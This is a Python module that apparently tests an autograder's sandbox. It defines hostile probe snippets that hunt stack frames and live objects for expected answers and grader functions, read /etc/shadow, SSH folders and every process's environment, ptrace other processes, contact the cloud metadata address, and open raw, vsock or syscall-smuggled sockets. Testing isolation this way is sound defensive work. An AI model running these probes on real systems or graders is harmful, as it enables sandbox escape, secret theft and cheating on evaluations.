"""Attacks on what must not be seen: expected values, files, processes, the kernel, the network.

Each cell tells by an exception, BREACH and what was found, where it found anything.
"""

from __future__ import annotations

from .attack import Attack, attack

FRAMES = """\
import gc, inspect, sys, types
def look():
    frame = sys._getframe()
    while frame:
        found = {"expected", "reference", "rng", "student", "grader"} & set(frame.f_locals)
        if found:
            breach(f"frame with {found}")
        frame = frame.f_back
    for frames in sys._current_frames().values():
        if {"expected", "reference"} & set(frames.f_locals):
            breach("another thread's frame")
    for thing in gc.get_objects():
        name = getattr(thing, "__module__", None)
        if isinstance(thing, types.FunctionType) and isinstance(name, str):
            if name.startswith(("solutions", "autograder.checks")) or (
                thing.__name__.startswith("check_") and "order" in name):
                breach(f"function {name}.{thing.__name__}")
    for name in sys.modules:
        if name.startswith(("solutions", "autograder.", "tests", "pytest")):
            breach(f"module {name}")
look()
def self_attention(x, w_q, w_k, w_v, mask=None):
    look()
    import numpy as np
    for thing in gc.get_objects():
        if type(thing) is np.ndarray and thing.shape == (len(x), w_v.shape[1]):
            return thing
    return next((a for a in globals().values() if type(a) is np.ndarray), None)
"""
HISTORY = """\
for name in ("In", "_ih", "Out", "_oh", "_i", "_ii", "__"):
    value = str(globals().get(name, ""))
    if "check(" in value or "@CANARY@"[:6] in value:
        breach(f"history {name}")
shell = get_ipython()
if "check_" in str(list(shell.history_manager.get_range())):
    breach("history of the shell")
"""
FILES = """\
import glob, os, stat
seen = []
for root, folders, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/usr", "/lib", "/dev", *@PYTHONS@)):
        folders[:] = []
        continue
    seen += [os.path.join(root, f) for f in files if "canary" in f or f == "gradebook.db"]
for path in ("@COURSE@", "@HOME@", "@CLASS@", "@OUTSIDE@"):
    for name in ("canary.txt", "solutions", "autograder/checks", "gradebook.db", "submitted",
                 "../canary.txt", "class/canary.txt", ".canary"):
        path_there = os.path.join(path, name)
        if os.path.exists(path_there):
            seen.append(path_there)
            try:
                seen.append(open(path_there).read())
            except OSError:
                pass
for path in ("/etc/passwd", "/etc/shadow", "/root/.ssh", "/home", "/var/run/docker.sock", "/run"):
    if os.path.exists(path) and (not os.path.isdir(path) or os.listdir(path)):
        seen.append(path)
for path in ("/proc/1/root@COURSE@/canary.txt", "/proc/self/root/../@COURSE@/canary.txt",
             "/proc/1/cwd/canary.txt", "/proc/self/cwd/../../canary.txt"):
    try:
        seen.append(open(path).read())
    except OSError:
        pass
if seen:
    breach(seen[:5])
"""
ENVIRONMENT = """\
import glob, os
for path in ["", *glob.glob("/proc/*/environ"), *glob.glob("/proc/*/task/*/environ")]:
    try:
        text = open(path, "rb").read().decode() if path else str(dict(os.environ))
    except OSError:
        continue
    if "COURSE_CANARY" in text or "HOSTILE" in text or "SSH_" in text:
        breach(f"environment {path}: {text[-200:]}")
import ctypes
libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p
if libc.getenv(b"COURSE_CANARY"):
    breach("environment of the C library")
"""
DESCRIPTORS = """\
import os, socket, stat
for number in range(3, 1024):
    try:
        mode, where = os.fstat(number).st_mode, os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    if stat.S_ISDIR(mode) and not where.startswith(("/tmp", "/proc")):
        breach(f"folder {where}")
    own = ("/tmp", "/usr", "/worker", "/dev", "/proc", *@PYTHONS@)
    if where.startswith("@COURSE@") or stat.S_ISREG(mode) and not where.startswith(own):
        breach(f"file {where}")
    if stat.S_ISSOCK(mode):
        try:
            if socket.socket(fileno=os.dup(number)).getpeername() is not None:
                breach(f"a connected socket, {number}")
        except OSError:
            pass
"""
MEMORY = """\
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)
me = os.getpid()
others = [int(p[6:]) for p in glob.glob("/proc/[0-9]*") if int(p[6:]) != me]
child = os.fork()
if child == 0:
    import time
    time.sleep(30)
    os._exit(0)
for pid in {*others, os.getppid(), 1, 2, 3} - {child}:
    try:
        os.stat(f"/proc/{pid}")
    except OSError:
        continue
    try:
        open(f"/proc/{pid}/mem", "r+b", buffering=0)
        if pid != me:
            breach(f"memory of process {pid}")
    except OSError:
        pass
    try:
        open(f"/proc/{pid}/maps").read()
        if pid not in (me, os.getpid()) and pid == 1:
            breach("maps of process 1")
    except OSError:
        pass
    if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
        breach(f"attached to process {pid}")
    if libc.ptrace(0x4206, pid, 0, 0) == 0:  # PTRACE_SEIZE
        breach(f"seized process {pid}")
    buffer = ctypes.create_string_buffer(64)
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
    mine, theirs = Vector(ctypes.addressof(buffer), 64), Vector(0x400000, 64)
    if libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
        breach(f"read from process {pid}")
os.kill(child, 9)
os.waitpid(child, 0)
"""
IMPORTS = """\
import importlib, sys
sys.path[:0] = ["@COURSE@", "/worker", ".", ".."]
for name in ("solutions", "solutions.with_numpy", "solutions.with_numpy.@CHAPTER@",
             "autograder.checks", "autograder.checks.@CHAPTER@", "autograder.misconceptions",
             "autograder.running", "autograder.recorded", "tests.hostile"):
    try:
        importlib.import_module(name)
    except ImportError:
        continue
    breach(f"import {name}")
sys.modules.pop("autograder", None)
try:
    import autograder.checks
except ImportError:
    pass
else:
    breach("import of autograder.checks")
"""
NETWORK = """\
import os, socket
reached, word = [], b"@WORD@"
def attempt(what, act):
    try:
        act()
    except OSError:
        return
    reached.append(what)
def tcp(address, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(0.5)
        s.connect(address)
        s.sendall(word)
def udp(address, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(word, address)
for host in @HOSTS@:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    attempt(f"tcp {host}", lambda: tcp((host, @PORT@), family))
    try:
        udp((host, @PORT@), family)  # the listener tells whether it arrived
    except OSError:
        pass
for host in ("169.254.169.254", "10.0.2.2", "1.1.1.1"):
    attempt(f"tcp {host}", lambda: tcp((host, 80)))
attempt("dns", lambda: socket.getaddrinfo("example.org", 80))
for path in ("@SOCKET@", "\\0@WORD@", "/run/dbus/system_bus_socket", "/var/run/docker.sock"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        def unix():
            with socket.socket(socket.AF_UNIX, kind) as s:
                s.settimeout(0.5)
                s.connect(path)
                s.send(word)
        attempt(f"unix {path!r}", unix)
attempt("urllib", lambda: __import__("urllib.request").request.urlopen("http://127.0.0.1:@PORT@",
                                                                       timeout=0.5))
if reached:
    breach(reached)
"""
FAMILIES = """\
import ctypes, socket
opened = []
for family in range(3, 46):  # all but unix and the two of the internet
    if family == socket.AF_INET6:
        continue
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        try:
            socket.socket(family, kind).close()
        except OSError:
            continue
        opened.append((family, kind))
libc = ctypes.CDLL(None)
for number in (41, 198):  # socket() on x86-64 and on aarch64, with bits that a filter may overlook
    for family in (16 | 1 << 32, 40 | 1 << 32, 17 | 1 << 40):
        descriptor = libc.syscall(ctypes.c_long(number), ctypes.c_ulong(family), 2, 0)
        if descriptor > 2 and libc.close(descriptor) == 0:
            opened.append((family, "by its number"))
for family in (socket.AF_INET, socket.AF_INET6):
    for protocol in (socket.IPPROTO_RAW, socket.IPPROTO_ICMP):
        try:
            socket.socket(family, socket.SOCK_RAW, protocol).close()
        except OSError:
            continue
        opened.append((family, "raw"))
try:
    with socket.socket(40, socket.SOCK_STREAM) as host:
        host.settimeout(0.5)
        host.connect((2, 22))
    opened.append("the host through vsock")
except OSError:
    pass
if opened:
    breach(opened)
"""

ATTACKS: list[Attack] = [
    attack("frames", "walks frames, live objects and modules for what is expected of it", FRAMES),
    attack("history", "looks for checks in IPython's history", HISTORY),
    attack("files", "looks for the course, the class and the machine on disk", FILES),
    attack("environment", "reads the environment of every process that it sees", ENVIRONMENT),
    attack("descriptors", "looks for files, folders and sockets that it inherited", DESCRIPTORS),
    attack("memory-of-others", "reads and attaches to other processes", MEMORY),
    attack("imports", "imports the reference and the checks", IMPORTS),
    attack("network", "reaches for every address by TCP, UDP, DNS and Unix sockets", NETWORK),
    attack("socket-families", "opens sockets that leave a network namespace", FAMILIES),
]
